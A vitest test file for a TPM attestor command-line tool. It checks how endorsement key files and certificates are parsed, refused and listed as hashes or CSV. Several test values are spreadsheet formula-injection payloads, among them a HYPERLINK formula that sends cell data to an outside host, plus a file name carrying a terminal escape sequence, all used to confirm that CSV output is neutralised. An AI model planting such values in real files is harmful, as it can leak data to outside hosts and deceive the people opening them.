import { execFileSync } from 'node:child_process';
import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvRecord } from '../../src/cli/terminal/csv.ts';
import { EkFileError, readEkFile } from '../../src/enrolment/ek-file.ts';
import { publicKeyHash, spkiHash } from '../../src/tpm/public-key.ts';
import { parseCertificate } from '../../src/x509/certificate.ts';
import { takeCertificate } from '../../src/x509/intake.ts';
import { certificateFile, leafRows } from '../support/certificate-corpus.ts';
import { CLI, cli } from '../support/cli.ts';
import { describeCorpus } from '../support/corpus.ts';
import { execute } from '../support/execute.ts';
import { keyPair, mintEkChain, pem, spkiOf } from '../support/pki.ts';
import { type SoftwareTpm, startSwtpm } from '../support/swtpm.ts';

const folder: string = mkdtempSync(join(tmpdir(), 'ek-file-'));
const path = (name: string): string => join(folder, name);
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const { leaf, intermediate, root } = mintEkChain();
const ek = keyPair('p256', 'ek').publicKey;
const der = Buffer.from(leaf.der);
const pemOf = (key: KeyObject): string => key.export({ format: 'pem', type: 'spki' }).toString();

describe('a saved endorsement key as tpm2-tools write it', () => {
  let tpm: SoftwareTpm;
  let hash: string;
  beforeAll(async () => {
    tpm = await startSwtpm({ templates: ['L-1'] });
    hash = (await cli(['ek', 'hash', '--tcti', tpm.tcti])).stdout.trim();
    await tpm.tpm2('tpm2_createek', ['-G', 'rsa', '-c', 'ek.ctx', '-u', 'ek.tss']);
    for (const format of ['tpmt', 'pem', 'der']) {
      await tpm.tpm2('tpm2_flushcontext', ['-t']);
      await tpm.tpm2('tpm2_readpublic', ['-c', 'ek.ctx', '-f', format, '-o', `ek.${format}`]);
    }
    await tpm.tpm2('tpm2_nvread', ['0x01c00002', '-C', 'o', '-o', 'ek.nv']);
    await tpm.tpm2('tpm2_flushcontext', ['-t']);
    await tpm.tpm2('tpm2_createprimary', ['-C', 'o', '-G', 'ecc', '-c', 'srk.ctx']);
    await tpm.tpm2('tpm2_readpublic', ['-c', 'srk.ctx', '-o', 'srk.tss']);
  });
  afterAll(() => tpm.stop());

  const read = (name: string): Uint8Array => Uint8Array.from(readFileSync(join(tpm.folder, name)));

  test.each([
    ['ek.tss', 'tpm2b-public'],
    ['ek.tpmt', 'tpmt-public'],
    ['ek.pem', 'public-key-pem'],
    ['ek.der', 'public-key-der'],
    ['ek.nv', 'certificate-der'],
  ] as const)('%s is read, and has the hash that the TPM has', (name, form) => {
    expect(readEkFile(read(name))).toMatchObject({
      form,
      spkiHash: hash,
      key: { algorithm: 'rsa', bits: 2048 },
      oddities: [],
    });
  });

  test('a public area says of what it is one, and one that is no endorsement key’s is named as odd', () => {
    expect(readEkFile(read('ek.tss')).publicArea).toMatchObject({ type: 'rsa' });
    expect(readEkFile(read('ek.pem')).publicArea).toBeUndefined();
    expect(readEkFile(read('srk.tss')).oddities).toEqual(['not-of-a-TCG-template']);
  });

  test.each(['ek.tss', 'ek.tpmt', 'ek.der'])('%s with a byte more or less is refused', (name) => {
    const whole = read(name);
    for (const odd of [whole.subarray(0, -1), Buffer.concat([whole, Buffer.of(0)])])
      expect(() => readEkFile(odd)).toThrow(EkFileError);
  });
});

describe('a saved certificate', () => {
  const answer = { pubhash: 'x', certificate: `${der.toString('base64url')}%3D%3D` };

  test.each<[string, string, string | Buffer, readonly string[]]>([
    ['DER', 'certificate-der', der, []],
    ['PEM', 'certificate-pem', `text\n${pem(leaf.der)}`, []],
    ['PEM with its public key, as spire-tpm-plugin sends it', 'certificate-pem', pem(leaf.der) + pemOf(ek), []],
    [
      'NV contents with padding',
      'certificate-nv',
      Buffer.concat([der, Buffer.alloc(9, 0xff)]),
      ['9-trailing-bytes-ff'],
    ],
    ['NV contents with a TCG header', 'certificate-nv', withHeader(der), ['TCG-header']],
    ['an answer of Intel’s service', 'certificate-intel', JSON.stringify(answer), []],
  ])('is read: %s', (_, form, contents, oddities) => {
    const file = readEkFile(Buffer.from(contents));
    expect(file).toMatchObject({ form, spkiHash: publicKeyHash(ek), key: { algorithm: 'ecc', bits: 256 }, oddities });
    expect(file.certificate).toEqual(Uint8Array.from(der));
    expect(file.intermediates).toEqual([]);
  });

  test('has its chain behind it', () => {
    const { intermediates } = readEkFile(Buffer.from(pem(leaf.der, intermediate.der, root.der)));
    expect(intermediates).toEqual([intermediate.der, root.der].map((bytes) => Uint8Array.from(bytes)));
  });
});

test.each<[string, string | Uint8Array, RegExp]>([
  ['nothing', '', /it is an empty file/],
  ['an index that was never filled', new Uint8Array(800).fill(0xff), /never filled/],
  ['another text', 'hello', /./],
  ['random bytes', new Uint8Array(300).map((_, i) => (i * 7919) % 251), /./],
  ['a private key', '-----BEGIN PRIVATE KEY-----\nMAA=\n-----END PRIVATE KEY-----\n', /PRIVATE KEY/],
  ['a private key beside the public one', `${pemOf(ek)}-----BEGIN EC PRIVATE KEY-----\n`, /EC PRIVATE KEY/],
  ['two public keys', pemOf(ek) + pemOf(ek), /more than one public key/],
  ['a public key that is not base64', pemOf(ek).replace('M', '='), /not base64/],
  [
    'another public key than that of the certificate',
    pem(leaf.der) + pemOf(keyPair('p384', 'x').publicKey),
    /for different keys/,
  ],
  ['a CA certificate', root.der, /the certificate is a CA's/],
  ['a chain in front of its certificate', pem(intermediate.der, leaf.der), /the first certificate is a CA's/],
  ['a certificate and more', Buffer.concat([der, Buffer.from('more')]), /not padding/],
  ['a certificate cut off', der.subarray(0, -1), /./],
  ['a header that claims more', withHeader(der).subarray(0, -1), /claims/],
  ['an Ed25519 key', pemOf(generateKeyPairSync('ed25519').publicKey), /of a kind that endorsement keys do not have/],
  [
    'a key on another curve',
    pemOf(generateKeyPairSync('ec', { namedCurve: 'secp256k1' }).publicKey),
    /of a kind that endorsement keys do not have/,
  ],
  ['a public key and more', Buffer.concat([spkiOf(ek), Buffer.of(0)]), /./],
  ['an answer with another certificate in it', JSON.stringify({ certificate: 'MAA' }), /./],
  ['more than 64 KiB', pem(leaf.der) + ' '.repeat(65_536), /larger than 65536 bytes/],
])('refuses %s', (_, contents, reason) => {
  const read = (): unknown => readEkFile(Buffer.from(contents));
  expect(read).toThrow(EkFileError);
  expect(read).toThrow(reason);
});

/** TCG_PCCLIENT_STORED_CERT of a full certificate. */
function withHeader(certificate: Uint8Array): Buffer {
  const length = certificate.length + 2;
  return Buffer.concat([Buffer.of(0x10, 0x01, 0x00, length >> 8, length & 0xff, 0x10, 0x02), certificate]);
}

test.each([
  [['plain', '', 'a b'], 'plain,,a b\r\n'],
  [['a,b', 'say "x"', 'two\nlines'], '"a,b","say ""x""","two\nlines"\r\n'],
  [['=1+1', '+1', '-1', '@x', '\tx'], "'=1+1,'+1,'-1,'@x,'\tx\r\n"],
  [['a;=1+1;b', 'a;"=1;', 'a; =1', 'a;b'], 'a;\'=1+1;b,"a;""\'=1;",a; =1,a;b\r\n'],
  [['\r=1', '=A("x",1)', "'=1", ' =1'], '"\'\r=1","\'=A(""x"",1)",\'=1, =1\r\n'],
])('a record of %j', (fields, record) => {
  expect(csvRecord(fields)).toBe(record);
});

describe('ek hash of files', () => {
  const HEADER = 'file,pub_hash,form,algorithm,manufacturer,model,firmware,issuer,not_after,problem';
  const hash = publicKeyHash(ek);
  beforeAll(() => {
    mkdirSync(path('keys/more'), { recursive: true });
    writeFileSync(path('keys/b.der'), leaf.der);
    writeFileSync(path('keys/a.pem'), pemOf(ek));
    writeFileSync(path('keys/.hidden'), 'not looked at');
    writeFileSync(path('keys/more/deeper.der'), leaf.der);
    writeFileSync(path('target.pem'), pemOf(keyPair('p384', 'other').publicKey));
    symlinkSync(path('target.pem'), path('keys/c-link'));
  });

  test('prints one hash a line, in the order given', async () => {
    const { code, stdout, stderr } = await cli(['ek', 'hash', 'target.pem', 'keys/b.der'], { cwd: folder });
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout).toBe(`${publicKeyHash(keyPair('p384', 'other').publicKey)}\n${hash}\n`);
  });

  test('reads standard input', async () => {
    const run = await cli(['ek', 'hash', '-'], { input: pemOf(ek) });
    expect(run).toMatchObject({ code: 0, stdout: `${hash}\n`, stderr: '' });
    const { stdout } = await cli(['ek', 'hash', '--csv', '-'], { input: pemOf(ek) });
    expect(stdout.split('\r\n')[1]).toBe(`standard input,${hash},public-key-pem,ecc-256,,,,,,`);
  });

  test('says which file is none, and prints the others', async () => {
    writeFileSync(path('none'), 'none');
    const { code, stdout, stderr } = await cli(['ek', 'hash', 'none', 'absent', 'keys/b.der'], { cwd: folder });
    expect([code, stdout]).toEqual([2, `${hash}\n`]);
    expect(stderr).toContain(`${path('none')}: `);
    expect(stderr).toContain(`${path('absent')}: cannot be read: no such file or directory\n`);
    expect(stderr).toContain('tpm-attestor: 2 of 3 files could not be read\n');
  });

  test('--csv lists the regular files of a folder by name, without hidden ones and folders in it', async () => {
    const { code, stdout, stderr } = await cli(['ek', 'hash', '--csv', 'keys'], { cwd: folder });
    expect([code, stderr]).toEqual([0, '']);
    const issuer = 'CN=Test TPM Intermediate CA';
    const [header, first, second = '', third, end] = stdout.split('\r\n');
    expect([header, first, end]).toEqual([HEADER, `keys/a.pem,${hash},public-key-pem,ecc-256,,,,,,`, '']);
    expect(second.startsWith(`keys/b.der,${hash},certificate-der,ecc-256,`)).toBe(true);
    expect(second.endsWith(`,${issuer},2049-12-31T23:59:59.000Z,`)).toBe(true);
    expect(third).toMatch(/^keys\/c-link,[0-9a-f]{64},public-key-pem,ecc-384,,,,,,$/);
  });

  test('--csv keeps the line of a file that cannot be read, whatever it is, and counts them', async () => {
    execFileSync('mkfifo', [path('fifo')]);
    writeFileSync(path('large'), pemOf(ek) + ' '.repeat(65_536));
    const files = ['large', 'fifo', 'absent', 'none', 'target.pem'];
    const { code, stdout, stderr } = await cli(['ek', 'hash', '--csv', ...files], { cwd: folder });
    expect(code).toBe(2);
    expect(stderr).toBe('tpm-attestor: 4 of 5 files could not be read\n');
    const lines = stdout.split('\r\n');
    expect(lines.slice(1, 5)).toEqual([
      'large,,,,,,,,,cannot be read: larger than 65536 bytes',
      'fifo,,,,,,,,,cannot be read: it is not a regular file; give - for standard input',
      'absent,,,,,,,,,cannot be read: no such file or directory',
      expect.stringMatching(/^none,,,,,,,,,./),
    ]);
    expect(lines[5]).toContain('target.pem,');
  });

  test('--csv has no formula in it, whatever a certificate or a name says', async () => {
    const model = '=HYPERLINK("http://example.org/?"&A1,"open")';
    const { leaf: hostile } = mintEkChain({ leaf: { san: { model } } });
    writeFileSync(path('+cmd.der'), hostile.der);
    writeFileSync(path('@x\u001b[2J\n.der'), leaf.der);
    const { stdout } = await cli(['ek', 'hash', '--csv', '+cmd.der', '@x\u001b[2J\n.der'], { cwd: folder });
    const [, first = '', second = ''] = stdout.split('\r\n');
    expect(first.startsWith("'+cmd.der,")).toBe(true);
    expect(first).toContain(`,"'${model.replaceAll('"', '""')}",`);
    expect(second.startsWith("'@x\\u001b[2J\\n.der,")).toBe(true);
  });

  test.each([
    ['ek hash --csv', '--csv needs saved endorsement keys'],
    ['ek hash --ek rsa target.pem', '--ek cannot be used with files'],
    [
      'ek hash --tcti device:/dev/tpm0 --owner-auth-file none target.pem',
      '--tcti, --owner-auth-file cannot be used with files',
    ],
  ])('%s is refused', async (command, words) => {
    const { code, stdout, stderr } = await cli(command.split(' '), { cwd: folder });
    expect([code, stdout]).toEqual([2, '']);
    expect(stderr).toContain(words);
  });

  test('a long listing tells its progress on a terminal, and only there', async () => {
    mkdirSync(path('many'));
    for (let i = 0; i < 320; i++) writeFileSync(path(`many/${i}.der`), leaf.der);
    const quiet = await cli(['ek', 'hash', '--csv', 'many'], { cwd: folder });
    expect([quiet.code, quiet.stderr, quiet.stdout.split('\r\n')]).toEqual([
      0,
      '',
      expect.objectContaining({ length: 322 }),
    ]);
    const command = `'${process.execPath}' '${CLI}' ek hash --csv many > many.csv`;
    const { stdout } = await execute('script', ['-qec', command, '/dev/null'], { cwd: folder });
    expect(stdout).toContain('160 of 320 endorsement keys');
    expect(readFileSync(path('many.csv'), 'utf8')).toBe(quiet.stdout);
  });
});

describeCorpus('endorsement certificates of the corpus', () => {
  test('all have the hash of their key in the list, and what their makers say of them', async () => {
    mkdirSync(path('leaves'));
    const leaves = leafRows.filter(({ expected }) => expected.isEk);
    expect(leaves.length).toBeGreaterThan(10);
    for (const { file } of leaves) writeFileSync(path(file), certificateFile(file));
    const { code, stdout, stderr } = await cli(['ek', 'hash', '--csv', 'leaves'], { cwd: folder });
    expect([code, stderr]).toEqual([0, '']);
    const listed = new Map(stdout.split('\r\n').map((line) => [line.split(',')[0], line]));
    for (const { file, spkiSha256, oddities, tpm, notAfter } of leaves) {
      const line = listed.get(file) ?? '';
      // Of an RSAES-OAEP key the manifest has the hash as certified; the machine's name is that of the plain spelling.
      const isOaep = oddities.some((oddity) => oddity.includes('OAEP'));
      const { plainDer } = parseCertificate(takeCertificate(certificateFile(file)).der).subjectPublicKeyInfo;
      expect(line.split(',')[1], file).toBe(isOaep ? spkiHash(plainDer) : spkiSha256);
      if (tpm !== null) expect(line).toContain(`,${tpm.tpmModel},${tpm.tpmVersion.slice(3).toUpperCase()},`);
      expect(new Date(line.split(',').at(-2) ?? '')).toEqual(new Date(notAfter));
    }
  });
});
